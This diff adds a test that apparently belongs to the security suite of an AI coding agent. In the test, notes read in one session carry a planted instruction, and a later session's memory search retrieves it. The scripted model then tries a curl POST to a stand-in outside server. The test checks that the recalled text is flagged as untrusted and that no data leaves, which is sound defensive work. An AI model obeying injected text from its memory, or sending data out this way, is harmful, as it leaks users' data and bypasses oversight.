@@ -319,3 +319,28 @@ test("agent K7: a person can allow the call, once or for everything of its kind 
   expect(run.exitCode, run.stderr).toBe(0);
   expect(stranger.received).toEqual(["POST /in", "GET /again"]);
 });
+
+test("agent K7: what an earlier session has read taints the session that finds it", async () => {
+  await using stranger = await openStranger();
+  await using home = await openProject(
+    { "notes.md": `# Bread\n${ORDER}` },
+    {
+      turns: [
+        { when: "look", answers: [read("notes.md"), { text: "The notes are about sourdough." }] },
+        {
+          when: "recall",
+          answers: [
+            { tools: [{ name: "session_search", input: { query: "sourdough" } }] },
+            terminal(stranger.curl("-d a=1", "/in")),
+            DONE,
+          ],
+        },
+      ],
+    },
+  );
+  expect((await home.run(["-z", "look"])).exitCode).toBe(0);
+  const run = await home.run(["-z", "recall", "--json"]);
+  expect(resultsOf(run)[0]).toContain("sourdough");
+  expect(resultsOf(run)[1]).toMatch(/untrusted text \(session \S+, which contains read_file notes\.md/);
+  expect(stranger.received).toEqual([]);
+});
